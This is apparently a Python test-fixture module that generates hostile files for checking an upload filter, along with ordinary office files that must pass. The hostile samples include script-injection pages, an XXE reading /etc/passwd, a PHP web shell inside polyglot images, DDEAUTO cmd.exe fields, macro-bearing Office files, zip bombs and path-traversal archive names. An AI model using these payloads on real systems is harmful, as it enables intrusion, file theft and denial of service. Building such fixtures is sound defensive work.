"""Files made to harm, by the dozen, and ordinary ones that look a little like them. Written by us, run nowhere."""

import io
import itertools
import random
import struct
import zipfile
import zlib
from functools import cache

import docx
import openpyxl
import pypdfium2
from PIL import Image
from PIL.PngImagePlugin import PngInfo

SCRIPT = "<script>top.canary=1;alert(1)</script>"


def zipped(parts, method=zipfile.ZIP_DEFLATED):
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return held.getvalue()


def saved_by(library):
    held = io.BytesIO()
    library.save(held)
    return held.getvalue()


def picture(kind="JPEG", size=(60, 40), **more):
    held = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(held, kind, **more)
    return held.getvalue()


def blank_pdf():
    held, document = io.BytesIO(), pypdfium2.PdfDocument.new()
    document.new_page(100, 100)
    document.save(held)
    return held.getvalue()


def wav(seconds=1):
    frames = b"\0\1" * 8000 * seconds
    head = struct.pack(
        "<4sI4s4sIHHIIHH4sI",
        b"RIFF",
        36 + len(frames),
        b"WAVE",
        b"fmt ",
        16,
        1,
        1,
        8000,
        16000,
        2,
        16,
        b"data",
        len(frames),
    )
    return head + frames


def box(name, content=b""):
    return struct.pack(">I4s", 8 + len(content), name) + content


def mp4():
    return (
        box(b"ftyp", b"isommp42\0\0\0\0isom")
        + box(b"moov", box(b"mvhd", bytes(100)))
        + box(b"mdat", bytes(5000))
    )


def pages():
    """SVG, HTML and XML that would run in a browser (T28): 40, in the clothes that filters have missed before."""
    bodies = [
        f"<html><body>{SCRIPT}</body></html>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='top.canary=1'/>",
        f"<svg xmlns='http://www.w3.org/2000/svg'>{SCRIPT}</svg>",
        f"<?xml version='1.0'?><?xml-stylesheet href='data:text/xsl,x'?><x>{SCRIPT}</x>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
        f"<math><mtext>{SCRIPT}</mtext></math>",
        "<img src=x onerror='top.canary=1'>",
        f"<xsl:stylesheet xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>{SCRIPT}</xsl:stylesheet>",
    ]
    dresses = [
        str.encode,
        lambda b: b"\xef\xbb\xbf" + b.encode(),
        lambda b: b.encode("utf-16"),
        lambda b: b"\r\n\t \x0c" + b.encode(),
        lambda b: ("<!-- acta -->" + b).encode("cp1252"),
    ]
    return [dress(body) for body in bodies for dress in dresses]


def polyglots():
    """Files that are two things at once (T29): 120."""
    hosts = {
        "jpg": picture(),
        "jpg-comment": picture(comment=SCRIPT),
        "png": picture("PNG"),
        "webp": picture("WEBP"),
        "pdf": blank_pdf(),
        "wav": wav(),
        "mp4": mp4(),
        "docx": saved_by(docx.Document()),
        "xlsx": saved_by(openpyxl.Workbook()),
    }
    guests = {
        "zip": zipped({"a.txt": "hola"}),
        "stored-zip": zipped({"a.js": "x"}, zipfile.ZIP_STORED),
        "html": f"<html>{SCRIPT}</html>".encode(),
        "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
        "php": b"<?php system($_GET[0]); ?>",
        "exe": b"MZ\x90\0" + b"\0" * 60 + b"\x0e\x1f\xba\x0eThis program cannot be run in DOS mode.\r\r\n$",
        "rar": b"Rar!\x1a\x07\x01\0abc",
        "seven": b"7z\xbc\xaf\x27\x1c\0\4",
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "page-in-page": ("\n" * 50 + "<!doctype html>" + SCRIPT).encode(),
        "iframe": b"<iframe src='javascript:top.canary=1'>",
    }
    after = [host + guest for host, guest in itertools.product(hosts.values(), guests.values())]
    apart = [
        host + bytes(4096) + guests[g]
        for host, g in itertools.product(list(hosts.values())[2:], ("zip", "html"))
    ]
    inside = [picture(comment=guests[g][:60_000]) for g in ("html", "svg", "php", "iframe")]
    text = PngInfo()
    text.add_text("Comment", SCRIPT)
    inside.append(picture("PNG", pnginfo=text))
    inside.append(picture(comment=b"%PDF-1.4\n1 0 obj"))
    inside.append(b"PK\3\4" + blank_pdf())
    made = after + apart + inside
    return made[:120]


WORD = {"word/document.xml": "<w/>", "[Content_Types].xml": "<Types/>"}
BOOK = {"xl/workbook.xml": "<w/>", "[Content_Types].xml": "<Types/>"}
SLIDES = {"ppt/presentation.xml": "<w/>", "[Content_Types].xml": "<Types/>"}
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)


def relation(kind, target, mode="External"):
    return f'<Relationships><Relationship Id="r1" Type="http://x/relationships/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'


def field(*runs):
    cut = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:d xmlns:w="w"><w:r><w:fldChar w:fldCharType="begin"/></w:r>{cut}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:d>'


def with_code(canary):
    """Office files with macros, foreign objects or something to fetch (T30): 60. `canary` is an address that must hear nothing."""
    made = []
    for parts, room in ((WORD, "word"), (BOOK, "xl"), (SLIDES, "ppt")):
        extra = [
            {f"{room}/vbaProject.bin": OLE},
            {f"{room}/VBAPROJECT.BIN": OLE},
            {f"{room}/other.bin": OLE},
            {f"{room}/embeddings/oleObject1.bin": OLE},
            {f"{room}/embeddings/sheet.xlsx": zipped(BOOK)},
            {f"{room}/media/image1.png": OLE},
            {f"{room}/media/image2.png": zipped({"a": "b"})},
            {f"{room}/media/run.jpg": b"MZ\x90\0" + bytes(90)},
            {f"{room}/activeX/activeX1.xml": "<x/>"},
            {f"{room}/_rels/a.xml.rels": relation("oleObject", "embeddings/x.doc", "Internal")},
            {f"{room}/_rels/a.xml.rels": relation("package", "x.xlsx", "Internal")},
            {f"{room}/_rels/a.xml.rels": relation("attachedTemplate", f"{canary}/t.dotm")},
            {f"{room}/_rels/a.xml.rels": relation("image", f"{canary}/i.png")},
            {f"{room}/_rels/a.xml.rels": relation("frame", f"{canary}/f.htm")},
            {"[Content_Types].xml": '<T><O ContentType="application/x.macroEnabled.main+xml"/></T>'},
            {f"{room}/styles.xml": f'<!DOCTYPE x [<!ENTITY % a SYSTEM "{canary}/e.dtd"> %a;]><x/>'},
        ]
        made += [zipped({**parts, **more}) for more in extra]
    words = [
        field("DDEAUTO c:\\\\windows\\\\cmd.exe"),
        field(" D", "DE", "AUTO excel"),
        field('INCLUDEPICTURE "', f'{canary}/i.png"'),
        field(f"INCLUDETEXT {canary}/t.docx"),
        '<w:d xmlns:w="w"><w:fldSimple w:instr="dde excel libro"/></w:d>',
    ]
    made += [zipped({**WORD, "word/header1.xml": said}) for said in words]
    made += [zipped({**WORD, "word/document.xml": words[0].encode("utf-16")})]
    made += [zipped({**WORD, "word/_rels/a.xml.rels": relation("aFChunk", "afchunk.html", "Internal")})]
    made += [zipped({**BOOK, "xl/externalLinks/externalLink1.xml": "<x><ddeLink ddeService='cmd'/></x>"})]
    made += [
        zipped({**BOOK, "xl/connections.xml": f"<c><x refreshOnLoad='1'><webPr url='{canary}/q'/></x></c>"})
    ]
    made += [zipped({**BOOK, "xl/macrosheets/sheet1.xml": "<m/>"}), zipped({**BOOK, "xl/dialogs.xlsm": "x"})]
    made += [
        zipped(
            {
                **WORD,
                "word/_rels/A.XML.RELS": relation("attachedTemplate", f"{canary}/t.dotm").replace('"', "'"),
            }
        )
    ]
    return made


def lying_zip(entries=65_000):
    """One entry listed thousands of times: small on disk, large once read."""
    local = b"PK\3\4" + struct.pack("<HHHHHIIIHH", 20, 0, 0, 0, 0, 0, 0, 0, 1, 0) + b"a"
    entry = (
        b"PK\1\2" + struct.pack("<HHHHHHIIIHHHHHII", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    )
    listed = entry * entries
    return (
        local
        + listed
        + b"PK\5\6"
        + struct.pack("<HHHHIIH", 0, 0, entries % 65536, entries % 65536, len(listed), len(local), 0)
    )


@cache
def bombs():
    """Small on disk, huge once open (T31); none above 260 KB but the last, which lists too much."""
    deep = zipped({**BOOK, "xl/a.xml": b"0" * 250_000_000})
    wide = zipped({**BOOK, **{f"xl/{n}.xml": "<x/>" for n in range(300)}})
    sheet = b"<x>" + b" " * 64_000_000 + b"</x>"
    nested = zipped({**BOOK, "xl/media/a.png": zipped({"b": b"0" * 50_000_000})})
    return {
        "deep": deep,
        "wide": wide,
        "sheet": zipped({**BOOK, "xl/a.xml": sheet}),
        "nested": nested,
        "listed": lying_zip(),
    }


def flat_picture(side):
    """A PNG that promises `side` x `side` pixels of one colour."""
    rows = zlib.compress((b"\0" + bytes(side // 8)) * side, 9)
    chunks = [(b"IHDR", struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)), (b"IDAT", rows), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack(">I", len(c)) + n + c + struct.pack(">I", zlib.crc32(n + c)) for n, c in chunks
    )


def slips():
    """Archives whose names climb out of the folder (T32): 30."""
    names = [
        "../x",
        "../../etc/x",
        "/etc/x",
        "..\\..\\x",
        "C:\\x",
        "\\\\host\\x",
        "a/../../x",
        "./../x",
        "..%2fx",
        "x\0.xml",
    ]
    return [zipped({**parts, name: "canary"}) for parts in (WORD, BOOK, {}) for name in names]


def photos(count, seed=34):
    """Photos that say where, when and with what they were taken, each in another way (T34)."""
    dice = random.Random(seed)
    for n in range(count):
        kind = ("JPEG", "PNG", "WEBP")[n % 3]
        exif = Image.Exif()
        for tag in dice.sample([0x010E, 0x010F, 0x0110, 0x0131, 0x013B, 0x8298, 0x9C9B], 4):
            exif[tag] = f"canary-{n}"
        exif[0x0112] = dice.randint(1, 8)
        exif.get_ifd(0x8825).update({1: "N", 2: (5.0, 41.0, float(n % 60)), 3: "W", 4: (76.0, 39.0, 1.0)})
        exif.get_ifd(0x8769)[0x9003] = "2026:05:03 10:00:00"
        more = {"exif": exif}
        if kind == "JPEG":
            more |= {
                "comment": f"canary-{n}",
                "icc_profile": b"canary" * 30,
                "xmp": b"<x:xmpmeta>canary</x:xmpmeta>",
            }
        elif kind == "PNG":
            text = PngInfo()
            text.add_itxt("XML:com.adobe.xmp", "canary")
            text.add_text("Author", f"canary-{n}", zip=bool(n % 2))
            more["pnginfo"] = text
        else:
            more |= {"xmp": b"<x:xmpmeta>canary</x:xmpmeta>", "icc_profile": b"canary" * 30}
        size = (dice.randint(30, 160), dice.randint(30, 160))
        yield picture(kind, size, **more)


def ordinary():
    """What offices send every day; all of it must come in."""
    relations = "word/_rels/settings.xml.rels"
    chart = zipped({**WORD, "word/charts/chart1.xml": "<c/>", "word/media/image1.png": picture("PNG")})
    linked = zipped({**WORD, relations: relation("hyperlink", "http://x/")})
    dated = zipped({**WORD, "word/document.xml": field(' DATE \\@ "d/MM/yyyy" ')})
    numbered = zipped(
        {**WORD, "word/document.xml": field("PAGEREF _Toc1 \\h"), "word/fonts/font1.odttf": bytes(90)}
    )
    return {
        "pdf": blank_pdf(),
        "jpg": picture(),
        "motion-photo": picture() + mp4(),
        "samsung-photo": picture()
        + b"\0\0\1\n\x0e\0\0\0Image_UTC_Data1746000000000SEFH"
        + bytes(20)
        + b"SEFT",
        "png": picture("PNG"),
        "webp": picture("WEBP"),
        "wav": wav(),
        "mp4": mp4(),
        "phone-mp4": mp4() + b"\0\0\0\x10SEFT\0\0\0\0\0\0\0\0",
        "word": saved_by(docx.Document()),
        "excel": saved_by(openpyxl.Workbook()),
        "chart": chart,
        "links": linked,
        "dates": dated,
        "fonts": numbered,
        "text": "Acta con tildes; ñandú".encode("cp1252"),
    }
